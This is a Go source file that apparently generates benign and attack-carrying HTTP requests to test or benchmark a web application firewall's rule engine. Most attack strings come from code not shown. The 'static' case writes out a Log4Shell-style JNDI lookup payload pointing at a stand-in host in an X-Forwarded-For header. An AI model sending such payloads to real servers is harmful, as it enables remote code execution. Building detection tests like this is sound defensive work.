package engine

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/url"
	"strconv"
	"strings"

	"gatehouse/rules"
	"gatehouse/rules/parity"
)

// Request is what is judged.
type Request struct {
	rules.Request
	Body []byte
}

// reply is that of all requests.
var reply = &rules.Response{Status: 200, Protocol: "HTTP/1.1", Headers: []rules.Header{
	{Name: "Content-Type", Value: "text/html; charset=utf-8"},
	{Name: "Content-Length", Value: "2048"},
	{Name: "Cache-Control", Value: "no-store"},
	{Name: "Date", Value: "Fri, 15 Jan 2027 12:00:00 GMT"},
	{Name: "Server", Value: "shop"},
	{Name: "X-Content-Type-Options", Value: "nosniff"},
}}

// Judge runs the phases that a gateway runs when replies are not inspected.
func (r *Request) Judge(set rules.RuleSet) (*rules.Result, error) {
	tx := set.Begin(&r.Request)
	err := r.phases(tx)
	return tx.Close(), err
}

func (r *Request) phases(tx rules.Transaction) error {
	if i, err := tx.RequestHeaders(); i != nil || err != nil {
		return err
	}
	var body rules.Body
	if len(r.Body) > 0 {
		body = rules.Body{Reader: bytes.NewReader(r.Body), Length: int64(len(r.Body))}
	}
	if i, err := tx.RequestBody(body); i != nil || err != nil {
		return err
	}
	_, err := tx.ResponseHeaders(reply)
	return err
}

// Size is about how many bytes the request has on the wire.
func (r *Request) Size() int {
	n := len(r.Method) + len(r.Target) + len(r.Body) + 14
	for _, h := range r.Headers {
		n += len(h.Name) + len(h.Value) + 4
	}
	return n
}

// Case is a kind of request. Its requests are benign, or carry an attack, which is part of what attack is put into.
type Case struct {
	Name string
	make func(s source, attack string) Request
}

// Cases are all kinds.
func Cases() []Case {
	return []Case{
		{"static", static}, {"search", search}, {"form", form}, {"json340", smallJSON}, {"json9k", largeJSON}, {"multipart100k", multipart}, {"xml10k", xml},
	}
}

// Benign are n distinct requests, others for another seed.
func (c Case) Benign(n int, seed uint64) []Request {
	return c.requests(n, newSource(seed), func(source) string { return "" })
}

// Fresh are as Benign, but for names of fields and browsers that never come again.
func (c Case) Fresh(n int, seed uint64) []Request {
	s := newSource(seed)
	s.fresh = true
	return c.requests(n, s, func(source) string { return "" })
}

// Attacks are n distinct requests with an attack each, others for another seed.
func (c Case) Attacks(n int, seed uint64) []Request {
	return c.requests(n, newSource(seed), source.attack)
}

func (c Case) requests(n int, s source, attack func(source) string) []Request {
	out := make([]Request, n)
	for i := range out {
		out[i] = c.make(s, attack(s))
	}
	return out
}

// request is one as browsers send them.
func (s source) request(method, target, contentType string, body []byte) Request {
	headers := []rules.Header{
		{Name: "Host", Value: "shop.example.com"},
		{Name: "User-Agent", Value: s.name(fmt.Sprintf("Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%d.0", 110+s.IntN(30), 110+s.IntN(30)))},
		{Name: "Accept", Value: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
		{Name: "Accept-Language", Value: "en-GB,en;q=0." + strconv.Itoa(1+s.IntN(9))},
		{Name: "Accept-Encoding", Value: "gzip, deflate, br"},
		{Name: "Referer", Value: "https://shop.example.com/" + s.word() + "/" + s.word()},
		{Name: "Cookie", Value: "session=" + s.hex(32) + "; theme=" + s.word() + "; cart=" + strconv.Itoa(s.IntN(1_000_000))},
		{Name: "Connection", Value: "keep-alive"},
	}
	if body != nil {
		headers = append(headers, rules.Header{Name: "Content-Type", Value: contentType}, rules.Header{Name: "Content-Length", Value: strconv.Itoa(len(body))})
	}
	return Request{Request: parity.NewRequest(method, target, headers...), Body: body}
}

func static(s source, attack string) Request {
	r := s.request("GET", fmt.Sprintf("/assets/%s/%s-%s.js", s.word(), s.word(), s.hex(8)), "", nil)
	if attack != "" { // there is no argument: in a header
		r.Headers = append(r.Headers, rules.Header{Name: "X-Api-Version", Value: attack}, rules.Header{Name: "X-Forwarded-For", Value: "${jndi:ldap://" + s.word() + ".example/a}"})
	}
	return r
}

// or is the attack if there is one.
func or(attack, benign string) string {
	if attack != "" {
		return attack
	}
	return benign
}

func search(s source, attack string) Request {
	q := url.Values{
		s.name("q"): {or(attack, s.text(1+s.IntN(4)))}, s.name("page"): {strconv.Itoa(1 + s.IntN(30))}, s.name("sort"): {s.word()},
		s.name("category"): {s.word() + "-" + s.word()},
	}
	return s.request("GET", "/search?"+q.Encode(), "", nil)
}

func form(s source, attack string) Request {
	v := url.Values{
		s.name("name"): {s.word() + " " + s.word()}, s.name("email"): {s.word() + "@example.com"}, s.name("subject"): {s.text(4)},
		s.name("message"): {or(attack, s.text(25+s.IntN(20)))}, s.name("csrf_token"): {s.hex(40)}, s.name("newsletter"): {"on"},
	}
	return s.request("POST", "/contact", "application/x-www-form-urlencoded", []byte(v.Encode()))
}

// item is an article in a cart.
func (s source) item(note string) map[string]any {
	return map[string]any{
		s.name("sku"): s.hex(10), s.name("title"): s.text(3), s.name("quantity"): 1 + s.IntN(9),
		s.name("price"): float64(s.IntN(20_000)) / 100, s.name("gift"): s.IntN(2) == 0, s.name("note"): note,
	}
}

func document(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // of what is made here, seen by every test
	}
	return b
}

func smallJSON(s source, attack string) Request {
	body := document(map[string]any{"cart": s.hex(16), "items": []any{s.item(s.text(5)), s.item(or(attack, s.text(6)))}, "coupon": s.word()})
	return s.request("POST", "/api/cart", "application/json", body)
}

func largeJSON(s source, attack string) Request {
	const size = 9 << 10
	var items []any
	for n := 0; n < size; {
		item := s.item(s.text(6 + s.IntN(8)))
		items = append(items, item)
		n += len(document(item)) + 1
	}
	items[s.IntN(len(items))] = s.item(or(attack, s.text(6)))
	return s.request("POST", "/api/orders", "application/json", document(map[string]any{"order": s.hex(16), "items": items}))
}

func multipart(s source, attack string) Request {
	const size = 100 << 10
	boundary := "----boundary" + s.hex(16)
	var b bytes.Buffer
	field := func(disposition, value string) {
		fmt.Fprintf(&b, "--%s\r\nContent-Disposition: form-data; %s\r\n\r\n%s\r\n", boundary, disposition, value)
	}
	field(`name="title"`, s.text(5))
	field(`name="description"`, or(attack, s.text(30)))
	field(fmt.Sprintf("name=\"photo\"; filename=\"%s-%s.jpg\"\r\nContent-Type: image/jpeg", s.word(), s.hex(4)), string(s.bytes(size)))
	b.WriteString("--" + boundary + "--\r\n")
	return s.request("POST", "/upload", "multipart/form-data; boundary="+boundary, b.Bytes())
}

func xml(s source, attack string) Request {
	const size = 10 << 10
	escape := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?><order id="` + s.hex(8) + `">`)
	attacked := attack == ""
	for b.Len() < size {
		note := s.text(5 + s.IntN(10))
		if !attacked && b.Len() > size/2 {
			note, attacked = escape(attack), true
		}
		fmt.Fprintf(&b, `<item sku="%s"><title>%s</title><quantity>%d</quantity><note>%s</note></item>`, s.hex(10), s.text(3), 1+s.IntN(9), note)
	}
	b.WriteString("</order>")
	return s.request("POST", "/api/import", "application/xml", []byte(b.String()))
}
